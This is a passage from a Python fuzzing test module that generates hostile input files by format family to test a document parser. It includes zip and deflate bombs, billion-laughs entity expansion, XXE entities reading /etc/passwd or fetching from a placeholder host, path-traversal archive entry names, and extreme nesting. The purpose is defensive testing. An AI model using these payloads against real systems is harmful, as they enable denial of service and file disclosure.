"""Files that somebody made to do harm, or that no program should have made, by family.

Each is a function that makes the file when it is asked for; its name says what is wrong with it.
`ADDRESS` is what they point to outside: nobody may ever look there.
"""

from __future__ import annotations

import base64
import os
import struct
import zlib
from collections.abc import Callable, Iterator
from random import Random

from tests.fuzzing import seeds
from tests.fuzzing.compound import SIGNATURE, compound, mail
from tests.fuzzing.mutators import packed, unpacked
from tests.fuzzing.seeds import letter_by_mail, open_document, p, pdf, sent, word

ADDRESS = os.environ.get("TIEPTHU_FUZZ_ADDRESS", "http://192.0.2.1/")
SECRET = os.environ.get("TIEPTHU_FUZZ_SECRET", "/etc/passwd")
MEGA = 1_000_000
Maker = Callable[[], bytes]
FILES: dict[str, list[Maker]] = {family: [] for family in seeds.FAMILIES}


def of(*families: str) -> Callable[[Maker], Maker]:
    """Note a maker in the families that it is for."""

    def note(maker: Maker) -> Maker:
        for family in families:
            FILES[family].append(maker)
        return maker

    return note


def cases(family: str) -> Iterator[tuple[str, bytes]]:
    """Yield the hostile files of a family: what every package may suffer, then its own."""
    makers = [*_in_packages(family), *((one.__name__, one) for one in FILES[family])]
    for name, maker in makers:
        yield f"{family}: {name.replace('_', ' ')}", maker()


# --- archives made by hand ------------------------------------------------------------------------


def zeros(size: int) -> bytes:
    """Return so many zeros, deflated, without making them: one block, again and again."""
    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflating.compress(bytes(MEGA)) + deflating.flush(zlib.Z_FULL_FLUSH)
    return block * (size // MEGA) + b"\x03\x00"


def archive(entries: list[tuple[bytes, bytes, int]], method: int = 8) -> bytes:
    """Return an archive of (name, packed content, size that it claims), as it is told."""
    out, directory = [], []
    at = 0
    for name, content, size in entries:
        sizes = struct.pack("<IIIHH", 0, len(content), size, len(name), 0)
        head = struct.pack("<HHHHH", 20, 0, method, 0, 33) + sizes
        out.append(b"PK\x03\x04" + head + name + content)
        directory.append(
            b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHII", 0, 0, 0, 0, at) + name
        )
        at += len(out[-1])
    held, told = b"".join(out), b"".join(directory)
    count = min(len(entries), 0xFFFF)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(told), len(held), 0)
    return held + told + b"PK\x05\x06" + end


def with_part(family: str, name: str, content: bytes) -> bytes:
    return packed({**unpacked(seeds.seeds(family)[0]), name: content})


_MAIN = {
    "word": "word/document.xml", "excel": "xl/worksheets/sheet1.xml", "odt": "content.xml",
    "ods": "content.xml", "zip": "a.html",
}  # fmt: skip


def _in_packages(family: str) -> Iterator[tuple[str, Maker]]:
    """Yield what can be done to the main part of a package of any kind."""
    if family not in _MAIN:
        return
    name = _MAIN[family]
    sound = unpacked(seeds.seeds(family)[0]).get(name, b"<html><body><p>x</p></body></html>")
    head, _, rest = sound.partition(b">")
    if head.startswith(b"<?"):
        before, _, rest = rest.partition(b">")
        head = before
    root = head.lstrip()[1:].split()[0]
    for what, content in {**_entities(root), **_shapes(root)}.items():
        broken = content.replace(b"@", head + b">" + rest)
        yield what, lambda broken=broken: with_part(family, name, broken)  # type: ignore[misc]
    parts = [(n.encode(), c) for n, c in unpacked(seeds.seeds(family)[0]).items() if n != name]
    sound_parts = [(n, _raw(c), len(c)) for n, c in parts]
    bomb = (name.encode(), zeros(1000 * MEGA), 1000 * MEGA)
    yield "a part of 1 GB", lambda: archive([*sound_parts, bomb])
    yield "a part of 1 GB that claims 10 bytes", lambda: archive([*sound_parts, (*bomb[:2], 10)])
    yield (
        "parts of 1 GB in all",
        lambda: archive(
            [*sound_parts, *((b"%d" % n, zeros(50 * MEGA), 50 * MEGA) for n in range(20))]
        ),
    )
    small = [(b"x/%d" % n, b"\x03\x00", 0) for n in range(100_000)]
    yield "100,000 parts", lambda: archive([*sound_parts, *small])
    yield "one part a thousand times", lambda: archive(sound_parts * 1000)


def _raw(content: bytes) -> bytes:
    return zlib.compress(content)[2:-4]


def _entities(root: bytes) -> dict[str, bytes]:
    """Return main parts with entities; `@` stands for the sound part."""
    lol = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    address, secret = ADDRESS.encode(), SECRET.encode()
    return {
        "billion laughs": b'<!DOCTYPE x [<!ENTITY l0 "lol">%s]>%s' % (lol, b"@&l11;"),
        "billion laughs inside": b'<!DOCTYPE x [<!ENTITY l0 "lol">%s]><%s>&l11;</%s>'
        % (lol, root, root),
        "quadratic blow up": b'<!DOCTYPE x [<!ENTITY a "%s">]><%s>%s</%s>'
        % (b"a" * 100_000, root, b"&a;" * 30_000, root),
        "external entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file://%s">]><%s>&a;</%s>'
        % (secret, root, root),
        "entity from the network": b'<!DOCTYPE x [<!ENTITY a SYSTEM "%s">]><%s>&a;</%s>'
        % (address, root, root),
        "parameter entity": b'<!DOCTYPE x [<!ENTITY %% a SYSTEM "%s"> %%a;]>@' % address,
        "document type from the network": b'<!DOCTYPE x SYSTEM "%sx.dtd">@' % address,
        "stylesheet from the network": b'<?xml-stylesheet href="%sx.xsl"?>@' % address,
        "include": b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://%s" '
        b'parse="text"/></x>' % secret,
    }


def _shapes(root: bytes) -> dict[str, bytes]:
    noise = base64.b64encode(Random(1).randbytes(33 * MEGA))
    return {
        "100,000 elements in each other": b"<%s>" % root + b"<a>" * 100_000 + b"</a>" * 100_000,
        "2,000 elements in each other": b"<%s>%s%s</%s>"
        % (root, b"<a>" * 2000, b"</a>" * 2000, root),
        "2,000,000 elements": b"<%s>%s</%s>" % (root, b"<a/>" * 2 * MEGA, root),
        "4,000,000 attributes": b"<%s>%s</%s>"
        % (root, b"<a b='' c='' d='' e='' f=''/>" * 800_000, root),
        "a text of 44 MB": b"<%s>%s</%s>" % (root, noise, root),
        "an attribute of 44 MB": b"<%s a='%s'/>" % (root, noise),
        "a name of 10 MB": b"<%s/>" % (b"a" * 10 * MEGA),
        "a comment of 44 MB": b"<!--%s-->@" % noise,
        "100,000 namespaces": b"<%s %s/>"
        % (root, b" ".join(b'xmlns:n%d="u%d"' % (n, n) for n in range(100_000))),
        "nothing but tags that never end": b"<a " * MEGA,
    }


# --- Word -----------------------------------------------------------------------------------------

_BY = "w:author='An' w:date='2024-05-10T08:00:00Z'"


def _nested(start: str, end: str, times: int) -> bytes:
    return word(start * times + p("x") + end * times)


@of("word")
def tables_in_tables() -> bytes:
    return _nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 600)


@of("word")
def controls_in_controls() -> bytes:
    return _nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 900)


@of("word")
def insertions_in_insertions() -> bytes:
    return word(f"<w:p>{f'<w:ins {_BY}>' * 1900}<w:r><w:t>x</w:t></w:r>{'</w:ins>' * 1900}</w:p>")


@of("word")
def text_boxes_in_text_boxes() -> bytes:
    return word("<w:p><w:r><w:txbxContent>" * 600 + p("x") + "</w:txbxContent></w:r></w:p>" * 600)


@of("word")
def a_million_empty_paragraphs() -> bytes:
    return word("<w:p/>" * MEGA)


@of("word")
def many_changes_in_one_paragraph() -> bytes:
    one = f"<w:ins {_BY}><w:r><w:t>mới </w:t></w:r></w:ins><w:r><w:t>và </w:t></w:r>"
    return word(f"<w:p>{one * 30_000}</w:p>")


@of("word")
def many_changes_that_were_taken_back() -> bytes:
    one = f"<w:ins {_BY}><w:del w:author='B'><w:r><w:t>mới {'x' * 50}</w:t></w:r></w:del></w:ins>"
    return word(f"<w:p>{(one + '<w:r><w:t>và </w:t></w:r>') * 8_000}</w:p>")


@of("word")
def many_paragraphs_whose_marks_are_gone() -> bytes:
    one = f"<w:p><w:pPr><w:rPr><w:del {_BY}/></w:rPr></w:pPr><w:r><w:t>một dòng</w:t></w:r></w:p>"
    return word(one * 30_000)


@of("word")
def many_comments_on_everything() -> bytes:
    starts = "".join(f"<w:commentRangeStart w:id='{n}'/>" for n in range(5_000))
    ends = "".join(
        f"<w:commentRangeEnd w:id='{n}'/><w:r><w:commentReference w:id='{n}'/></w:r>"
        for n in range(5_000)
    )
    body = f"<w:p>{starts}</w:p>{p('một dòng dài ' * 20) * 3_000}<w:p>{ends}</w:p>"
    said = "".join(f"<w:comment w:id='{n}'>{p('x')}</w:comment>" for n in range(5_000))
    return word(body, word__comments=f"<w:comments {seeds._W}>{said}</w:comments>")


@of("word")
def many_comments_in_one_long_paragraph() -> bytes:
    one = "<w:commentRangeStart w:id='{0}'/><w:r><w:t>một từ </w:t></w:r><w:commentRangeEnd " + (
        "w:id='{0}'/><w:r><w:commentReference w:id='{0}'/></w:r>"
    )
    body = "".join(one.format(n) for n in range(10_000))
    said = "".join(f"<w:comment w:id='{n}'>{p('x')}</w:comment>" for n in range(10_000))
    return word(f"<w:p>{body}</w:p>", word__comments=f"<w:comments {seeds._W}>{said}</w:comments>")


@of("word")
def replies_in_a_circle_and_in_a_long_chain() -> bytes:
    many = 5_000
    said = "".join(
        f"<w:comment w:id='{n}'><w:p w14:paraId='{n:08X}'/></w:comment>" for n in range(many)
    )
    above = "".join(
        f"<w15:commentEx w15:paraId='{n:08X}' w15:paraIdParent='{(n + 1) % many:08X}'/>"
        for n in range(many)
    )
    return word(
        p("x"),
        word__comments=f"<w:comments {seeds._W}>{said}</w:comments>",
        word__commentsExtended=f"<w15:commentsEx {seeds._W}>{above}</w15:commentsEx>",
    )


@of("word")
def many_moves_open_at_once() -> bytes:
    starts = "".join(f"<w:moveFromRangeStart w:id='{n}' w:name='m{n}'/>" for n in range(20_000))
    moved = f"<w:p><w:moveFrom {_BY}><w:r><w:t>x</w:t></w:r></w:moveFrom></w:p>"
    return word(starts + moved * 20_000)


@of("word")
def styles_that_build_on_each_other_in_a_circle_and_endlessly() -> bytes:
    one = "<w:style w:styleId='s{0}'><w:basedOn w:val='s{1}'/></w:style>"
    many = "".join(one.format(n, (n + 1) % 20_000) for n in range(20_000))
    return word(
        p("x", "<w:pStyle w:val='s1'/>"), word__styles=f"<w:styles {seeds._W}>{many}</w:styles>"
    )


@of("word")
def lists_with_absurd_levels() -> bytes:
    level = (
        "<w:lvl w:ilvl='{0}'><w:start w:val='{1}'/><w:numFmt w:val='{2}'/>"
        "<w:lvlText w:val='{3}'/></w:lvl>"
    )
    levels = (
        level.format(0, 99999, "lowerRoman", "%1" * 50_000)
        + level.format(12, -5, "upperLetter", "%13")
        + level.format("²", "٣", "decimalZero", "%1")
    )
    lists = (
        f"<w:numbering {seeds._W}><w:abstractNum w:abstractNumId='0'>{levels}</w:abstractNum>"
        "<w:num w:numId='1'><w:abstractNumId w:val='0'/></w:num></w:numbering>"
    )
    of_list = "<w:numPr><w:ilvl w:val='{0}'/><w:numId w:val='1'/></w:numPr>"
    levels_used = ("0", "12", "²", "-1", "99999999999999999999")
    body = "".join(p("x", of_list.format(level)) * 100 for level in levels_used)
    return word(body, word__numbering=lists)


@of("word")
def spans_that_are_negative_or_enormous() -> bytes:
    cell = (
        "<w:tc><w:tcPr><w:gridSpan w:val='{0}'/><w:vMerge w:val='{0}'/></w:tcPr>"
        + p("x")
        + "</w:tc>"
    )
    spans = ("-1", "0", "2147483647", "99999999999999999999", "x", "")
    before = "<w:trPr><w:gridBefore w:val='1000000000'/></w:trPr>"
    return word(
        f"<w:tbl><w:tr>{before}{''.join(cell.format(span) for span in spans)}</w:tr></w:tbl>"
    )


@of("word")
def a_row_of_100_000_cells() -> bytes:
    cell = f"<w:tc>{p('x')}</w:tc>"
    return word(f"<w:tbl><w:tr>{cell * 100_000}</w:tr></w:tbl>")


@of("word")
def a_file_that_holds_itself() -> bytes:
    links = (
        f'<Relationships xmlns="{seeds._PACKAGE}">'
        + "".join(
            f'<Relationship Id="r{n}" Type="{seeds._OFFICE}/{kind}" Target="document.xml"/>'
            for n, kind in enumerate(seeds._KINDS)
        )
        + "</Relationships>"
    )
    return packed({**unpacked(word(p("x"))), "word/_rels/document.xml.rels": links.encode()})


@of("word")
def files_within_files() -> bytes:
    data = word(p("x"))
    for _ in range(10):
        data = word(p("x"), word__aFChunk=data)
    return data


@of("word")
def a_thousand_files_in_a_file() -> bytes:
    parts = unpacked(word(p("x")))
    inner = parts["word/aFChunk.xml"]
    links = "".join(
        f'<Relationship Id="c{n}" Type="{seeds._OFFICE}/aFChunk" Target="c{n}.docx"/>'
        for n in range(2_000)
    )
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Rel", links.encode() + b"</Rel", 1)
    return packed({**parts, **{f"word/c{n}.docx": inner for n in range(2_000)}})


@of("word")
def everything_is_elsewhere() -> bytes:
    parts = unpacked(word(p("x")))
    links = "".join(
        f'<Relationship Id="e{n}{k}" Type="{seeds._OFFICE}/{kind}" Target="{target}" '
        'TargetMode="External"/>'
        for n, target in enumerate((ADDRESS, "file://" + SECRET, r"\\192.0.2.1\x"))
        for k, kind in enumerate((*seeds._KINDS, "attachedTemplate", "image", "oleObject"))
    )
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Rel", links.encode() + b"</Rel", 1)
    return packed(parts)


# --- Excel ----------------------------------------------------------------------------------------

_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet(rows: str, more: str = "", **parts: str) -> bytes:
    content = f"<worksheet {_SHEET}><dimension ref='A1:XFD1048576'/><sheetData>{rows}</sheetData>"
    name = "xl/worksheets/sheet1.xml"
    held = {**unpacked(seeds.seeds("excel")[0]), name: f"{content}{more}</worksheet>".encode()}
    return packed(held | {n.replace("__", "/") + ".xml": t.encode() for n, t in parts.items()})


def _cell(place: str, value: str, kind: str = "n", style: str = "0") -> str:
    return f"<c r='{place}' t='{kind}' s='{style}'><v>{value}</v></c>"


@of("excel")
def cells_at_the_end_of_the_world() -> bytes:
    places = ("XFD1048576", "A1000000000", "XFE1", "ZZZZZZ1", "A0", "", "1", "A-1", "a1")
    rows = "".join(f"<row r='{n}'>{_cell(at, '1')}</row>" for n, at in enumerate(places, 1048570))
    return sheet(rows + "<row r='1000000000'><c r='A1000000000'><v>2</v></c></row>")


@of("excel")
def merged_over_the_whole_sheet() -> bytes:
    merged = "<mergeCell ref='A1:XFD1048576'/>" * 10
    return sheet(f"<row r='1'>{_cell('A1', '1')}</row>", f"<mergeCells>{merged}</mergeCells>")


@of("excel")
def texts_that_are_not_there() -> bytes:
    values = ("-1", "99999999", "99999999999999999999", "x", "", "1.5", "NaN", "²")
    return sheet(
        "<row r='1'>"
        + "".join(_cell(f"{c}1", v, "s") for c, v in zip("ABCDEFGH", values, strict=True))
        + "</row>"
    )


@of("excel")
def numbers_that_are_no_days() -> bytes:
    values = ("-1", "1e300", "NaN", "Infinity", "-1e-300", "2958466", "0", "x")
    rows = (
        f"<row r='{n}'>" + "".join(_cell("", v, "n", f"{n}") for v in values) + "</row>"
        for n in range(6)
    )
    return sheet("".join(rows) + "<row><c s='-1'><v>1</v></c><c s='99999'><v>1</v></c></row>")


@of("excel")
def a_long_text_in_100_000_cells() -> bytes:
    strings = f"<sst {_SHEET}><si><t>{'dài ' * 100_000}</t></si></sst>"
    rows = "".join(f"<row>{_cell('', '0', 's')}</row>" for _ in range(100_000))
    return sheet(rows, xl__sharedStrings=strings)


@of("excel")
def a_million_rows() -> bytes:
    return sheet("<row><c><v>1</v></c></row>" * MEGA)


@of("excel")
def two_million_empty_cells_with_a_style() -> bytes:
    return sheet("<row>" + "<c s='1'/>" * 2 * MEGA + "</row>")


@of("excel")
def cells_far_to_the_right_in_many_rows() -> bytes:
    return sheet("".join(f"<row>{_cell(f'XFD{n}', '1')}</row>" for n in range(1, 30_000)))


@of("excel")
def one_cell_a_hundred_thousand_times() -> bytes:
    return sheet(f"<row r='1'>{_cell('A1', '1') * 100_000}</row>")


@of("excel")
def notes_nowhere() -> bytes:
    refs = ("XFD1048577", "", "A0", "B2", "B2", "ZZZZ1", "A1:B2")
    notes = "".join(
        f"<comment ref='{ref}' authorId='{n * 7 - 1}'><text><t>x</t></text></comment>"
        for n, ref in enumerate(refs)
    )
    parts = unpacked(seeds.seeds("excel")[0])
    name = next(name for name in parts if "comment" in name and name.endswith(".xml"))
    told = f"<comments {_SHEET}><authors/><commentList>{notes}</commentList></comments>"
    return packed({**parts, name: told.encode()})


@of("excel")
def a_thousand_sheets_that_are_one() -> bytes:
    parts = unpacked(seeds.seeds("excel")[0])
    one = '<sheet name="x" sheetId="1" r:id="rId1"/>'
    start = parts["xl/workbook.xml"].index(b"<sheets>") + 8
    book = parts["xl/workbook.xml"]
    spaces = one.replace("r:id", 'xmlns:r="' + seeds._OFFICE + '" r:id')
    parts["xl/workbook.xml"] = book[:start] + spaces.encode() * 1000 + book[start:]
    return packed(parts)


@of("excel")
def a_pattern_that_explodes() -> bytes:
    formats = (
        f"<numFmts><numFmt numFmtId='200' formatCode='{'[' * 50_000}{'_' * 50_000}'/></numFmts>"
    )
    styles = f"<styleSheet {_SHEET}>{formats}<cellXfs><xf numFmtId='200'/></cellXfs></styleSheet>"
    return sheet(f"<row>{_cell('A1', '1')}</row>", xl__styles=styles)


# --- OpenDocument ---------------------------------------------------------------------------------


def _text_p(text: str) -> str:
    return f"<text:p>{text}</text:p>"


@of("odt")
def spans_in_spans() -> bytes:
    return open_document("text", _text_p("<text:span>" * 2000 + "x" + "</text:span>" * 2000))


@of("odt")
def lists_in_lists() -> bytes:
    inside = "<text:list><text:list-item>" * 1000 + _text_p("x")
    return open_document("text", inside + "</text:list-item></text:list>" * 1000)


@of("odt", "ods")
def tables_in_tables_of_opendocument() -> bytes:
    start = "<table:table><table:table-row><table:table-cell>"
    end = "</table:table-cell></table:table-row></table:table>"
    return open_document("text", start * 600 + _text_p("x") + end * 600)


@of("odt")
def many_insertions() -> bytes:
    region = "<text:changed-region text:id='c{0}'><text:insertion/></text:changed-region>"
    mark = (
        "<text:change-start text:change-id='c{0}'/>một từ<text:change-end text:change-id='c{0}'/>"
    )
    many = range(20_000)
    tracked = "".join(region.format(n) for n in many)
    body = "".join(_text_p(mark.format(n)) for n in many)
    return open_document("text", f"<text:tracked-changes>{tracked}</text:tracked-changes>{body}")


@of("odt")
def insertions_that_never_end() -> bytes:
    region = "<text:changed-region text:id='c{0}'><text:insertion/></text:changed-region>"
    tracked = "".join(region.format(n) for n in range(5_000))
    starts = "".join(f"<text:change-start text:change-id='c{n}'/>" for n in range(5_000))
    body = _text_p(starts) + _text_p("một dòng dài " * 20) * 3_000
    return open_document("text", f"<text:tracked-changes>{tracked}</text:tracked-changes>{body}")


@of("odt")
def many_notes_in_one_long_paragraph() -> bytes:
    note = "<office:annotation><text:p>x</text:p></office:annotation>một từ "
    return open_document("text", _text_p(note * 10_000))


@of("odt", "ods")
def a_file_with_a_password() -> bytes:
    manifest = b"<manifest><file-entry><encryption-data/></file-entry></manifest>"
    return open_document("text", _text_p("x"), **{"META-INF/manifest.xml": manifest})


@of("ods")
def cells_repeated_endlessly() -> bytes:
    cell = (
        "<table:table-cell table:number-columns-repeated='{0}'>"
        "<text:p>{1}</text:p></table:table-cell>"
    )
    row = "<table:table-row table:number-rows-repeated='{0}'>{1}</table:table-row>"
    times = ("1048576", "99999999999999999999", "-1", "0", "²", "1" * 5000)
    cells = "".join(cell.format(n, "dài " * 100_000) for n in times)
    rows = "".join(row.format(n, cell.format(n, "x")) for n in times)
    name = "<table:table table:name='x'>"
    return open_document("spreadsheet", f"{name}{rows}{row.format(1, cells)}</table:table>")


@of("ods")
def the_same_sheet_a_thousand_times() -> bytes:
    table = f"<table:table table:name='x'>{seeds._ROW}</table:table>"
    return open_document("spreadsheet", table * 1000)


@of("ods")
def half_a_million_rows() -> bytes:
    row = (
        "<table:table-row><table:table-cell><text:p>1</text:p></table:table-cell></table:table-row>"
    )
    return open_document("spreadsheet", f"<table:table>{row * 350_000}</table:table>")


# --- mails ----------------------------------------------------------------------------------------


@of("mail")
def a_hundred_mails_in_each_other() -> bytes:
    message = letter_by_mail()
    for _ in range(100):
        outer = letter_by_mail()
        outer.add_attachment(message)
        message = outer
    return sent(message)


@of("mail")
def parts_in_parts() -> bytes:
    head = b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\n"
    many = range(3_000)
    inside = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in many
    )
    return head + inside + b"Content-Type: text/plain\n\nx\n"


@of("mail")
def heads_of_a_megabyte() -> bytes:
    odd = {
        "From": '"' + "a" * MEGA + '" <a@b>', "To": "a@b, " * 200_000, "Date": "(" * 100_000,
        "Subject": "=?utf-8?b?4bq1?= " * 60_000, "MIME-Version": "1.0", "Received": "x;" * 100_000,
        "Content-Type": 'text/plain; charset="utf-8"; ' + "a*0*=x; " * 20_000,
    }  # fmt: skip
    return "".join(f"{name}: {value}\n" for name, value in odd.items()).encode() + b"\nx\n"


@of("mail")
def brackets_in_brackets() -> bytes:
    one = "(" * 2_000 + ")" * 2_000
    odd = f"From: {one} <a@b>\nTo: {one}\nSubject: x\nDate: {one}\nMIME-Version: 1.0\n"
    return f"{odd}Content-Type: text/plain; {one}\n\nx\n".encode()


@of("mail")
def a_hundred_thousand_heads() -> bytes:
    head = b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\n"
    return head + b"X-Head: x\n" * 100_000 + b"\nx\n"


@of("mail")
def ten_thousand_attachments() -> bytes:
    part = b'--b\nContent-Type: text/plain; name="x.txt"\nContent-Disposition: attachment\n\nx\n'
    head = b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\n"
    return head + b'Content-Type: multipart/mixed; boundary="b"\n\n' + part * 10_000 + b"--b--\n"


@of("mail")
def a_body_of_44_megabytes() -> bytes:
    body = base64.encodebytes(Random(1).randbytes(32 * MEGA))
    head = "From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\nContent-Transfer-Encoding: base64\n"
    return head.encode() + b"Content-Type: text/plain; charset=utf-8\n\n" + body


@of("mail")
def a_line_of_40_megabytes() -> bytes:
    return b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\n\n" + b"x" * 40 * MEGA


@of("mail")
def charsets_that_nobody_knows() -> bytes:
    head = "From: =?x-none?b?////?= <a@b>\nTo: c@d\nSubject: =?rot13?q?x?=\nMIME-Version: 1.0\n"
    kinds = ("x-none", "rot13", "hex", "idna", "zlib", "unicode_escape", "undefined", "\x00")
    parts = "".join(
        f'--b\nContent-Type: text/plain; charset="{kind}"\nContent-Transfer-Encoding: base64\n\n'
        "////=x\n"
        for kind in kinds
    )
    return f'{head}Content-Type: multipart/mixed; boundary="b"\n\n{parts}--b--\n'.encode()


@of("mail")
def a_page_that_wants_pictures() -> bytes:
    page = f"<html><body><img src='{ADDRESS}'><link rel=stylesheet href='{ADDRESS}'><p>x</html>"
    message = letter_by_mail()
    message.set_content(page, subtype="html")
    message.add_attachment(page.encode(), maintype="text", subtype="html", filename="x.html")
    return sent(message)


@of("mail")
def a_bomb_by_mail() -> bytes:
    bomb = archive([(b"a.txt", zeros(1000 * MEGA), 1000 * MEGA)])
    return sent(letter_by_mail(("a.zip", bomb), ("b.docx", bomb)))


# --- Outlook --------------------------------------------------------------------------------------


@of("outlook")
def streams_that_share_their_bytes() -> bytes:
    streams = {f"__substg1.0_{n:04X}001F": b"" for n in range(2_000)}
    data = bytearray(compound({"x": b"a" * 10 * MEGA, **streams}))
    first = struct.unpack("<I", data[48:52])[0]
    directory = 512 + first * 512
    start, size = struct.unpack("<IQ", data[directory + 128 + 116 : directory + 128 + 128])
    for n in range(2_002):
        entry = directory + 128 * n
        if data[entry + 66] == 2:
            data[entry + 116 : entry + 128] = struct.pack("<IQ", start, size)
    return bytes(data)


@of("outlook")
def sectors_in_a_circle() -> bytes:
    data = bytearray(seeds.seeds("outlook")[0])
    for at in range(len(data) - 512, len(data), 4):
        data[at : at + 4] = struct.pack("<I", 0)
    return bytes(data)


@of("outlook")
def folders_in_folders() -> bytes:
    inside: dict[str, object] = {"x": b"x"}
    for _ in range(500):
        inside = {"__attach_version1.0_#00000000": inside}
    return compound(inside)  # type: ignore[arg-type]


@of("outlook")
def ten_thousand_streams() -> bytes:
    return compound({f"__substg1.0_{n:04X}001F": b"x" for n in range(10_000)})


@of("outlook")
def a_text_of_40_megabytes() -> bytes:
    return mail({0x37: "x", 0x1000: "Tiêu chí số 9 " * (20 * MEGA // 14)}, {})


@of("outlook")
def a_page_of_40_megabytes_in_each_other() -> bytes:
    return mail({0x37: "x", 0x1013: "<div>" * 4 * MEGA}, {})


@of("outlook")
def a_day_in_the_year_60_000() -> bytes:
    return mail({0x37: "x", 0x1000: "x"}, {}, sent=0x7FFFFFFFFFFFFFFF)


@of("outlook")
def three_thousand_attached_files() -> bytes:
    return mail({0x37: "x", 0x1000: "x"}, {f"{n}.txt": b"Bo tieu chi 3" for n in range(3_000)})


@of("outlook")
def a_bomb_in_outlook() -> bytes:
    bomb = archive([(b"a.txt", zeros(1000 * MEGA), 1000 * MEGA)])
    return mail({0x37: "x", 0x1000: "x"}, {"a.zip": bomb})


@of("outlook", "old")
def nothing_but_a_signature() -> bytes:
    return SIGNATURE + b"\xff" * 5000


# --- texts ----------------------------------------------------------------------------------------


@of("text")
def forty_megabytes_of_text() -> bytes:
    return ("Tiêu chí số 9 " * 14 + "\n").encode() * (40 * MEGA // 240)


@of("text")
def nine_megabytes_of_line_ends() -> bytes:
    return b"a" + b"\n" * 9 * MEGA


@of("text")
def nine_megabytes_in_one_line() -> bytes:
    return "Tiêu chí số 9, ".encode() * (9 * MEGA // 20)


@of("text")
def nine_megabytes_of_another_encoding() -> bytes:
    return "Ti\u00ea\u00f9u chi\u00ed so\u00e1 9\n".encode("latin-1") * (9 * MEGA // 17)


@of("text")
def a_table_of_nine_megabytes() -> bytes:
    return b"a;b;c\n" + b";" * 3 * MEGA + b"\n" + b'"' * 3 * MEGA + b"\n" + b"1;2;3\n" * 500_000


@of("text")
def a_page_in_a_page() -> bytes:
    return b"<html>" + b"<div>" * 100_000 + b"x"


@of("text")
def a_page_of_tables_in_tables() -> bytes:
    return b"<html>" + b"<table><tr><td>x" * 3_000


@of("text")
def a_page_of_many_blocks() -> bytes:
    return b"<html>" + b"<div><p>x" * 300_000


@of("text")
def a_page_with_entities() -> bytes:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    file = b'<!ENTITY f SYSTEM "file://%s">' % SECRET.encode()
    return b"<!DOCTYPE html [%s%s]><html><p>&l11; &f;" % (file, laughs)


@of("text")
def a_table_with_a_cell_of_9_megabytes() -> bytes:
    return b"a;b;c\n1;2;" + b"x" * 9 * MEGA + b"\n1;2;3\n"


# --- archives -------------------------------------------------------------------------------------


@of("zip")
def archives_in_archives() -> bytes:
    data = b"Bo tieu chi so 3"
    for depth in range(10):
        data = packed({"x.zip" if depth else "x.txt": data})
    return data


@of("zip")
def a_tree_of_archives() -> bytes:
    inner = packed({f"{n}.txt": b"x" * 100 for n in range(1_000)})
    return packed({f"{n}.zip": inner for n in range(1_000)}, 8)


@of("zip")
def a_bomb_in_an_archive_in_an_archive() -> bytes:
    bomb = archive([(b"a.txt", zeros(1000 * MEGA), 1000 * MEGA)])
    return packed({"a.zip": packed({"b.docx": bomb, "c.txt": b"Bo tieu chi 3"})})


@of("zip")
def texts_of_100_megabytes() -> bytes:
    text = zlib.compressobj(1, zlib.DEFLATED, -15)
    data = base64.b64encode(Random(1).randbytes(6 * MEGA))
    raw = text.compress(data) + text.flush()
    return archive([(b"%d.txt" % n, raw, len(data)) for n in range(6)])


@of("zip")
def names_that_lead_out() -> bytes:
    names = ("../../x.txt", "/etc/x.txt", "C:\\x.txt", "a\x00b.txt", "x" * 60_000, "\u202e.txt", "")
    return packed(dict.fromkeys(names, b"Bo tieu chi 3"))


@of("zip")
def a_directory_over_itself() -> bytes:
    sound = archive([(b"a.txt", _raw(b"x" * 1000), 1000)])
    return sound + sound[-22:] + b"x" * 70_000


@of("zip")
def other_ways_to_pack() -> bytes:
    return archive([(b"a.txt", b"\x09\x14\x05\x00" + b"\xff" * 200, 1000)], 14)


# --- PDF ------------------------------------------------------------------------------------------


@of("pdf")
def a_page_that_unpacks_to_1_gb() -> bytes:
    block = b"x\x9c" + zeros(1000 * MEGA)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(block), block)
    return pdf(b"BT ET").replace(b"<< /Length 5 >>\nstream\nBT ET\nendstream", stream)


@of("pdf")
def a_page_packed_a_hundred_times() -> bytes:
    data = b"BT ET"
    for _ in range(100):
        data = zlib.compress(data)
    filters = b"[" + b"/FlateDecode " * 100 + b"]"
    stream = b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters, len(data), data)
    return pdf(b"BT ET").replace(b"<< /Length 5 >>\nstream\nBT ET\nendstream", stream)


@of("pdf")
def forty_megabytes_of_drawing() -> bytes:
    return pdf(b"0 0 m 9 9 l S " * 3 * MEGA)


@of("pdf")
def a_page_of_30_000_boxes() -> bytes:
    boxes = b"".join(b"%d %d 50 20 re S\n" % (n % 200, n // 200) for n in range(30_000))
    return pdf(boxes)


@of("pdf")
def a_grid_of_200_by_200() -> bytes:
    lines = b"".join(b"0 %d 600 1 re f %d 0 1 800 re f\n" % (n * 4, n * 3) for n in range(200))
    return pdf(lines)


@of("pdf")
def figures_in_figures() -> bytes:
    """Ten figures, of which each shows the next ten times."""
    figures = {}
    for n in range(10):
        content = b"/X Do " * 10 if n < 9 else b"BT /F 9 Tf (x) Tj ET"
        figures[n + 20] = (
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] "
